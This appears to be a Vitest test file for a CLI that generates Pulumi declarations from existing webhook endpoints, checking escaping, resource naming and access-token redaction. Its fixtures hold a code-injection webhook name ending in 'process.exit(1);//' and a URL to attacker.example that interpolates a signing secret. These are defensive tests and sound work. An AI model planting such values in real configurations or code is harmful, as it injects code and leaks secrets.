import { runInNewContext } from "node:vm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { WebhooksClient } from "../../src/client/client";
import {
  identifierFor,
  resourceNameFor,
  resourceNames,
  runAdopt,
  type AdoptOptions,
} from "../../src/cli/commands/adopt";
import { CliError, EXIT } from "../../src/cli/exit";
import { memorySink } from "../../src/cli/output/output";
import type { Emulator } from "../../src/emulator";
import { readAdoptYaml, readTsDeclarations, readYamlDoubleQuoted, runShellCommands } from "./consumers";
import { TOKEN, allSecrets, cliEmulator, clientFor, expectGolden, normalise } from "./helpers";

describe("webhooks adopt against the emulator", () => {
  let emulator: Emulator;
  let client: WebhooksClient;

  beforeAll(async () => {
    emulator = await cliEmulator();
    emulator.addRecord({ webhook_name: "orders", webhook_url: "https://example.com/hooks/orders" });
    emulator.addRecord({
      webhook_name: "Billing Events (EU)",
      webhook_url: "https://example.com/hooks/billing?region=eu&v=2",
    });
    emulator.addRecord({ webhook_name: "orders", webhook_url: "https://example.com/hooks/orders" });
    // Quotes, a backslash, a newline and a JavaScript line terminator: none may break out of a literal or a comment.
    emulator.addRecord({
      webhook_name: 'say "hi"\\\n\u2028});process.exit(1);//',
      webhook_url: "https://example.com/hooks/x",
    });
    client = clientFor(emulator);
  });
  afterAll(async () => {
    await client?.close();
    await emulator?.close();
  });

  const base: AdoptOptions = { ids: [], format: "all", json: false, progress: false };

  it("--id: TypeScript, Pulumi YAML and the import command for one endpoint (golden), no secret", async () => {
    const sink = memorySink();
    await runAdopt(client, sink, { ...base, ids: [2] });
    expectGolden("adopt-id-2-all.txt", normalise(sink.out, emulator));
    for (const secret of allSecrets(emulator)) expect(sink.out + sink.err).not.toContain(secret);
    expect(sink.out).toContain('const billingEventsEUWebhook = new WebhookEndpoint("Billing-Events-EU", {');
    expect(sink.out).toContain("pulumi import webhooks:index:WebhookEndpoint Billing-Events-EU 2");
  });

  it("--name selecting duplicates: one declaration each, resource names made unique by id (golden)", async () => {
    const sink = memorySink();
    const declarations = await runAdopt(client, sink, { ...base, name: "orders", format: "ts" });
    expect(declarations.map((d) => d.resourceName)).toEqual(["orders-1", "orders-3"]);
    expect(sink.err).toContain("2 endpoints match");
    expectGolden("adopt-name-orders-ts.txt", sink.out);
  });

  it("--resource-name names the resource (R-<id> for several)", async () => {
    const one = await runAdopt(client, memorySink(), {
      ...base,
      ids: [1],
      resourceName: "legacy",
      format: "import",
    });
    expect(one[0]!.importCommand).toBe("pulumi import webhooks:index:WebhookEndpoint legacy 1");
    const two = await runAdopt(client, memorySink(), {
      ...base,
      ids: [3, 1],
      resourceName: "legacy",
      format: "import",
    });
    expect(two.map((d) => d.resourceName)).toEqual(["legacy-1", "legacy-3"]);
  });

  it("quotes hostile names safely: the TypeScript evaluates to the exact values, the YAML parses to them", async () => {
    const record = emulator.records()[3]!;
    const sink = memorySink();
    const [declaration] = await runAdopt(client, sink, { ...base, ids: [record.webhook_id] });
    expect(sink.err).toMatch(/cannot be declared exactly as the service stores it/);
    // The TypeScript declaration, evaluated with a stand-in class, yields exactly the service's values.
    const seen: unknown[] = [];
    const stub = class {
      constructor(name: string, args: unknown) {
        seen.push(name, args);
      }
    };
    runInNewContext(declaration!.typescript!, { WebhookEndpoint: stub });
    expect(seen).toEqual([
      declaration!.resourceName,
      { webhookName: record.webhook_name, webhookUrl: record.webhook_url, adoptWebhookId: record.webhook_id },
    ]);
    // The YAML: every value a double-quoted scalar, which YAML reads with JSON's escapes, one per line.
    const lines = declaration!.yaml!.split("\n");
    expect(lines).toHaveLength(7);
    const scalar = (prefix: string) =>
      JSON.parse(lines.find((l) => l.startsWith(prefix))!.slice(prefix.length)) as unknown;
    expect(scalar("      webhookName: ")).toBe(record.webhook_name);
    expect(scalar("      webhookUrl: ")).toBe(record.webhook_url);
    expect(scalar("      import: ")).toBe(String(record.webhook_id));
    expect(lines[1]).toBe("    type: webhooks:index:WebhookEndpoint");
    expect(sink.out).not.toMatch(/[\n]\}\);process/);
    expect(sink.out).not.toContain("\u2028");
  });

  it("--json: the declarations for scripts", async () => {
    const sink = memorySink();
    await runAdopt(client, sink, { ...base, ids: [1], json: true });
    const parsed = JSON.parse(sink.out) as { declarations: Record<string, unknown>[] };
    expect(Object.keys(parsed.declarations[0]!).sort()).toEqual([
      "importCommand",
      "refused",
      "resourceName",
      "typescript",
      "webhookId",
      "webhookName",
      "webhookUrl",
      "yaml",
    ]);
    expect(parsed.declarations[0]!.refused).toEqual({});
  });

  it("an id or a name that does not exist is a usage error (exit 2)", async () => {
    const missingId = await runAdopt(client, memorySink(), { ...base, ids: [1, 99] }).catch(
      (e: unknown) => e,
    );
    expect(missingId).toBeInstanceOf(CliError);
    expect((missingId as CliError).exitCode).toBe(EXIT.usage);
    expect((missingId as CliError).message).toMatch(/no endpoint with webhook_id 99/);
    const missingName = await runAdopt(client, memorySink(), { ...base, name: "nope" }).catch(
      (e: unknown) => e,
    );
    expect((missingName as CliError).exitCode).toBe(EXIT.usage);
  });

  it("resource names stay distinct when a suffixed one is another endpoint's own name (a, a and a-3)", () => {
    const record = (webhookId: number, webhookName: string) =>
      ({ webhookId, webhookName, webhookUrl: "https://example.com/h" }) as never;
    const names = resourceNames([record(3, "a"), record(4, "a"), record(5, "a-3")], undefined);
    expect(new Set(names).size).toBe(3);
    expect(names.slice(0, 2)).toEqual(["a-3", "a-4"]);
    expect(
      resourceNames([record(1, "x"), record(2, "x-1"), record(3, "x")], undefined).every(
        (name, _i, all) => all.indexOf(name) === all.lastIndexOf(name),
      ),
    ).toBe(true);
  });

  it("derives resource names and identifiers that Pulumi and TypeScript accept", () => {
    expect(resourceNameFor("orders", 1)).toBe("orders");
    expect(resourceNameFor("  Ünïcode / spaces  ", 2)).toBe("Unicode-spaces");
    expect(resourceNameFor("Billing Events (EU)", 3)).toBe("Billing-Events-EU");
    expect(resourceNameFor("\u0000\u202e", 4)).toBe("webhook-4");
    expect(resourceNameFor("x".repeat(100), 5)).toHaveLength(64);
    expect(identifierFor("orders")).toBe("ordersWebhook");
    expect(identifierFor("9-lives")).toBe("webhook9LivesWebhook");
    expect(identifierFor("delete")).toBe("deleteWebhook");
  });
});

describe("webhooks adopt: names and URLs another team chose", () => {
  let emulator: Emulator;
  let client: WebhooksClient;
  const base: AdoptOptions = {
    ids: [],
    format: "all",
    json: false,
    progress: false,
    secrets: { inText: [TOKEN] },
  };
  const ids = {
    orders: 0,
    interpolating: 0,
    undefinedRef: 0,
    dollars: 0,
    nonchar: 0,
    tokenName: 0,
    tokenUrl: 0,
    splitToken: 0,
  };

  beforeAll(async () => {
    emulator = await cliEmulator({ maxNameLength: 1000 });
    const add = (name: string, url: string) =>
      emulator.addRecord({ webhook_name: name, webhook_url: url }).webhook_id;
    ids.orders = add("orders", "https://example.com/hooks/orders");
    ids.interpolating = add("hook", "https://attacker.example/hook?k=${orders.signSecret}");
    ids.undefinedRef = add("${nothing}", "https://example.com/hooks/a");
    ids.dollars = add("a$$b$", "https://example.com/hooks/b?x=$$&y=$");
    ids.nonchar = add("orders\uFFFE\uFDD0", "https://example.com/hooks/c");
    ids.tokenName = add(`team ${TOKEN}`, "https://example.com/hooks/d");
    ids.tokenUrl = add("innocent", `https://example.com/hooks/e?t=${TOKEN.toUpperCase()}`);
    ids.splitToken = add(`${TOKEN.slice(0, 10)}\u200b${TOKEN.slice(10)}`, "https://example.com/hooks/f");
    client = clientFor(emulator);
  });
  afterAll(async () => {
    await client?.close();
    await emulator?.close();
  });

  /** What adopt prints in one format (TypeScript, YAML or the commands alone: each parsed whole by its consumer). */
  async function printed(selected: number[], format: AdoptOptions["format"]) {
    const sink = memorySink();
    const outcome = await runAdopt(client, sink, { ...base, ids: selected, format }).catch(
      (error: unknown) => error,
    );
    return { out: sink.out, err: sink.err, outcome };
  }

  function serviceValues(id: number) {
    const record = emulator.records().find((r) => r.webhook_id === id)!;
    return { webhookName: record.webhook_name, webhookUrl: record.webhook_url, import: String(id) };
  }

  it("every $ is doubled in the YAML, so Pulumi YAML reads no reference and yields the service's values", async () => {
    const sink = memorySink();
    await runAdopt(client, sink, {
      ...base,
      ids: [ids.interpolating, ids.undefinedRef, ids.dollars],
      format: "yaml",
    });
    // The facts of pulumi-yaml's parser: `$${` is a literal `${`, `$$` a literal `$`.
    expect(sink.out).toContain('      webhookUrl: "https://attacker.example/hook?k=$${orders.signSecret}"\n');
    expect(sink.out).toContain('      webhookName: "$${nothing}"\n');
    expect(sink.out).toContain('      webhookName: "a$$$$b$$"\n');
    expect(sink.out).not.toMatch(/[^$](\$\$)*\$\{/);
    const read = readAdoptYaml(sink.out);
    expect(
      read.map(({ webhookName, webhookUrl, import: id }) => ({ webhookName, webhookUrl, import: id })),
    ).toEqual([
      serviceValues(ids.interpolating),
      serviceValues(ids.undefinedRef),
      serviceValues(ids.dollars),
    ]);
    expect(sink.err).toBe("");
  });

  it("a noncharacter is written as an escape yaml.v3 reads, never raw (yaml.v3 refuses raw U+FFFE)", async () => {
    const yaml = await printed([ids.nonchar], "yaml");
    expect(yaml.out).not.toMatch(/[\uFFFE\uFFFF\uFDD0]/);
    expect(yaml.out).toContain('      webhookName: "orders\\ufffe\\ufdd0"\n');
    expect(readYamlDoubleQuoted('"orders\\ufffe\\ufdd0"')).toBe("orders\uFFFE\uFDD0");
    expect(() => readYamlDoubleQuoted('"orders\uFFFE"')).toThrow(/refuses the raw character U\+FFFE/);
    expect(readAdoptYaml(yaml.out).map((r) => r.webhookName)).toEqual(["orders\uFFFE\uFDD0"]);
    // TypeScript: the same escape, read back by the compiler.
    const typescript = await printed([ids.nonchar], "ts");
    expect(typescript.out).toContain('  webhookName: "orders\\ufffe\\ufdd0",\n');
    expect(readTsDeclarations(typescript.out)[0]!.properties.webhookName).toBe("orders\uFFFE\uFDD0");
  });

  it("an endpoint whose name or URL holds the token (any case, split by a zero-width space) is not declared, with a warning naming it", async () => {
    const sink = memorySink();
    const refused = [ids.tokenName, ids.tokenUrl, ids.splitToken];
    const declarations = await runAdopt(client, sink, { ...base, ids: [ids.orders, ...refused] });
    const everything = sink.out + sink.err;
    expect(everything.toLowerCase()).not.toContain(TOKEN.toLowerCase());
    expect(everything.toLowerCase()).not.toContain(TOKEN.slice(10).toLowerCase());
    for (const id of refused) {
      expect(sink.err).toMatch(
        new RegExp(
          `warning: endpoint ${id} gets no TypeScript, Pulumi YAML, pulumi import declaration: its (name|URL) holds the access token`,
        ),
      );
      const declaration = declarations.find((d) => d.webhookId === id)!;
      expect(declaration).toMatchObject({ typescript: null, yaml: null, importCommand: null });
      expect(declaration.resourceName.toLowerCase()).not.toContain(TOKEN.slice(0, 10).toLowerCase());
    }
    // The one clean endpoint is declared in every format, and only it.
    const only = [ids.orders, ...refused];
    expect(
      readTsDeclarations((await printed(only, "ts")).out).map((d) => d.properties.adoptWebhookId),
    ).toEqual([ids.orders]);
    expect(readAdoptYaml((await printed(only, "yaml")).out).map((r) => r.import)).toEqual([
      String(ids.orders),
    ]);
    expect(runShellCommands((await printed(only, "import")).out)).toEqual([
      ["import", "webhooks:index:WebhookEndpoint", "orders", String(ids.orders)],
    ]);
  });

  it("--json redacts the token from names and URLs, and says why each declaration is null", async () => {
    const sink = memorySink();
    await runAdopt(client, sink, { ...base, ids: [ids.tokenName, ids.tokenUrl], json: true }).catch(
      (error: unknown) => {
        expect((error as CliError).exitCode).toBe(EXIT.refused);
      },
    );
    expect(sink.out.toLowerCase()).not.toContain(TOKEN.toLowerCase());
    const parsed = JSON.parse(sink.out) as {
      declarations: {
        webhookName: string;
        webhookUrl: string;
        typescript: unknown;
        refused: Record<string, string>;
      }[];
    };
    expect(parsed.declarations.map((d) => [d.webhookName, d.webhookUrl])).toEqual([
      // docs/operator-cli.md: a field that shows a secret is the marker {"secret": true} in --json.
      [{ secret: true }, "https://example.com/hooks/d"],
      ["innocent", { secret: true }],
    ]);
    for (const d of parsed.declarations) {
      expect(d.typescript).toBeNull();
      expect(Object.keys(d.refused).sort()).toEqual(["importCommand", "typescript", "yaml"]);
      expect(d.refused.yaml).toMatch(/access token/);
    }
  });

  it("nothing declarable: no declaration on stdout, exit 5 (refused), the warnings say why", async () => {
    const sink = memorySink();
    const error = await runAdopt(client, sink, { ...base, ids: [ids.tokenName], format: "yaml" }).catch(
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(CliError);
    expect((error as CliError).exitCode).toBe(EXIT.refused);
    expect(sink.out).toBe("");
    expect(sink.err).toMatch(/endpoint \d+ gets no Pulumi YAML declaration: its name holds the access token/);
  });

  it("the derived resource name never holds the token, nor does --resource-name", async () => {
    expect(resourceNameFor(`x ${TOKEN}`, 7, [TOKEN])).toBe("webhook-7");
    expect(resourceNameFor(TOKEN.toUpperCase(), 8, [TOKEN])).toBe("webhook-8");
    // Only once derived: a token "tok-en" from a name "tok en".
    expect(resourceNameFor("abcd efgh ijkl", 9, ["abcd-efgh-ijkl"])).toBe("webhook-9");
    const error = await runAdopt(client, memorySink(), {
      ...base,
      ids: [ids.orders],
      resourceName: TOKEN,
    }).catch((e: unknown) => e);
    expect((error as CliError).exitCode).toBe(EXIT.usage);
    expect((error as CliError).message).toMatch(/--resource-name holds the access token/);
  });
});
